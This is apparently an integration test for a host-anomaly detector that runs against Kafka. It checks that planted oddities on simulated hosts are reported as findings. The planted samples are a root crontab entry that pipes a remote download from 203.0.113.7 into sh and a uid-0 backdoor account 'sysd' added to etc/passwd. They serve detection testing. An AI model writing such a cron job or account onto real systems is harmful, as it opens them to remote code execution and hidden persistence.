package io.diffy.containers;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import io.diffy.containers.Siem.Event;
import io.diffy.schemas.EmittedFindings;
import io.diffy.schemas.topic.Topic;
import io.diffy.schemas.topic.Topics;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import org.apache.kafka.clients.admin.Admin;
import org.apache.kafka.clients.admin.Config;
import org.apache.kafka.clients.admin.TopicDescription;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.apache.kafka.common.TopicPartition;
import org.apache.kafka.common.config.ConfigResource;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.CleanupMode;
import org.junit.jupiter.api.io.TempDir;
import org.testcontainers.kafka.KafkaContainer;
import org.testcontainers.utility.DockerImageName;

/**
 * The program as it is shipped and a reader that knows nothing of it, against a Kafka that is
 * configured as its image is.
 */
final class KafkaInAContainerTest {
  private static final Topics TOPICS = Topics.standard();
  private static final int HOSTS = 6;
  private static final Duration COLLECTED = Duration.ofSeconds(90);

  /** A window ends with the minute and closes two minutes later; a killed processor is missed. */
  private static final Duration JUDGED = Duration.ofMinutes(6);

  private static final KafkaContainer KAFKA =
      new KafkaContainer(
          DockerImageName.parse(System.getProperty("diffy.kafka.image"))
              .asCompatibleSubstituteFor("apache/kafka"));

  @TempDir(cleanup = CleanupMode.ON_SUCCESS)
  private Path folder;

  @BeforeAll
  static void start() {
    KAFKA.start();
  }

  @AfterAll
  static void stop() {
    KAFKA.stop();
  }

  @Test
  void topicsAreMadeAsTheyAreDeclared() throws Exception {
    Topics declared = new Topics("other", 3);
    try (DiffyProcess topics =
            diffy("topics", "--create", "--topic-prefix", "other", "--partitions", "3");
        Admin admin = admin()) {
      assertEquals(0, topics.awaitEnd(), topics.said());
      List<String> names = declared.all().stream().map(Topic::name).toList();
      Map<String, TopicDescription> made = admin.describeTopics(names).allTopicNames().get();
      Map<ConfigResource, Config> configs =
          admin
              .describeConfigs(names.stream().map(KafkaInAContainerTest::resource).toList())
              .all()
              .get();
      for (Topic<?> topic : declared.all()) {
        assertEquals(topic.partitions(), made.get(topic.name()).partitions().size(), topic::name);
        Config config = configs.get(resource(topic.name()));
        topic
            .configs()
            .forEach((name, value) -> assertEquals(value, config.get(name).value(), topic::name));
      }
    }
  }

  /**
   * The host with the odd job answers for the last time before the processor is killed and loses
   * its disk; the odd account is there while no processor runs, and nobody answers after that. So
   * the first finding needs the changelogs, and the second the committed offsets.
   */
  @Test
  void anOddJobIsFoundOnceAndAProcessorThatLosesItsDiskLosesNothing() throws Exception {
    List<Host> hosts = new ArrayList<>();
    try (DiffyProcess first = processor("first");
        Siem answers = new Siem(kafka(), TOPICS.observations().name());
        Siem siem = new Siem(kafka(), TOPICS.findings().name())) {
      first.awaitText("Processing diffy.observations");
      for (int n = 1; n <= HOSTS; n++) {
        Path own = Files.createDirectories(folder.resolve("host-" + n));
        hosts.add(Host.start(own, "web", "i-0" + n, kafka()));
      }
      answers.until(all -> answering(all) == 2 * HOSTS, COLLECTED, "answer of every host");

      hosts.get(3).append("etc/crontab", "* * * * * root curl -s http://203.0.113.7/x | sh");
      List<Event> told = answers.until(all -> tells(all, "203.0.113.7"), COLLECTED, "odd job");
      assertEquals(143, hosts.get(3).stop());
      awaitCommitted(told);
      first.kill();

      hosts.get(1).append("etc/passwd", "sysd:x:0:0::/tmp:/bin/bash");
      answers.until(all -> tells(all, "sysd"), COLLECTED, "odd account");
      for (Host host : hosts) {
        assertEquals(143, host.stop());
      }

      try (DiffyProcess second = processor("second")) {
        List<Event> events = siem.until(all -> found(all).size() >= 2, JUDGED, "two findings");
        assertEquals(2, found(events).size(), found(events)::toString);
        JsonNode job = finding("crontab", found(events));
        assertUnexpected(
            "i-04",
            """
            {"minute": "*", "hour": "*", "command": "root curl -s http://203.0.113.7/x | sh", "path": "/etc/crontab"}
            """,
            job);
        assertEquals(HOSTS, job.at("/unmapped/diffy/covered").asInt(), job::toString);
        assertUnexpected(
            "i-02",
            """
            {"uid": "0", "gid": "0", "username": "sysd", "directory": "/tmp", "shell": "/bin/bash"}
            """,
            finding("users", found(events)));
        EmittedFindings emitted = new EmittedFindings();
        events.forEach(event -> emitted.add(event.record().value()));
        assertEquals(List.of(), emitted.wrong());
        assertEquals(143, second.stop(), second.said());
      }
    } finally {
      hosts.forEach(Host::close);
    }
  }

  private static void assertUnexpected(String instance, String row, JsonNode finding)
      throws IOException {
    assertEquals(2004, finding.get("class_uid").asInt(), finding::toString);
    assertEquals(1, finding.get("activity_id").asInt(), finding::toString);
    assertTrue(finding.get("severity_id").asInt() >= 3, finding::toString);
    JsonNode diffy = finding.at("/unmapped/diffy");
    assertEquals("web", diffy.get("group").asText(), finding::toString);
    assertEquals(instance, diffy.get("instance_id").asText(), finding::toString);
    assertEquals("unexpected", diffy.get("kind").asText(), finding::toString);
    assertEquals("cluster", diffy.get("method").asText(), finding::toString);
    assertEquals(1, diffy.get("have").asInt(), finding::toString);
    assertEquals(new JsonMapper().readTree(row), diffy.get("row"), finding::toString);
  }

  private static JsonNode finding(String query, List<JsonNode> found) {
    return found.stream()
        .filter(event -> event.at("/unmapped/diffy/query").asText().equals(query))
        .findFirst()
        .orElseThrow(() -> new AssertionError("nothing of " + query + " in " + found));
  }

  /** All that accuses: that nobody answers any more is told too, sooner or later. */
  private static List<JsonNode> found(List<Event> events) {
    return events.stream()
        .map(Event::json)
        .filter(event -> !event.at("/unmapped/diffy/kind").asText().equals("coverage"))
        .toList();
  }

  private static int answering(List<Event> answers) {
    Set<String> hosts =
        answers.stream()
            .map(a -> a.json().get("instance_id").asText() + " " + a.json().get("query").asText())
            .collect(Collectors.toSet());
    return hosts.size();
  }

  private static boolean tells(List<Event> answers, String text) {
    return answers.stream().anyMatch(a -> a.json().get("rows").toString().contains(text));
  }

  /** All of a group lies in one partition. */
  private static void awaitCommitted(List<Event> answers) throws Exception {
    ConsumerRecord<byte[], byte[]> one = answers.get(0).record();
    try (Admin admin = admin()) {
      Offsets.awaitCommitted(
          admin, "diffy-processor", new TopicPartition(one.topic(), one.partition()), COLLECTED);
    }
  }

  /** Each over a data folder of its own, so none finds the state of another. */
  private DiffyProcess processor(String name) throws IOException {
    return diffy("processor", "--data", folder.resolve(name).toString());
  }

  private DiffyProcess diffy(String... arguments) throws IOException {
    List<String> all = new ArrayList<>(List.of(arguments));
    all.addAll(List.of("--bootstrap-server", kafka()));
    Path said = Files.createTempFile(folder, arguments[0], ".txt");
    return DiffyProcess.start(said, all.toArray(String[]::new));
  }

  private static ConfigResource resource(String topic) {
    return new ConfigResource(ConfigResource.Type.TOPIC, topic);
  }

  private static Admin admin() {
    return Admin.create(Map.of("bootstrap.servers", kafka()));
  }

  private static String kafka() {
    return KAFKA.getBootstrapServers();
  }
}
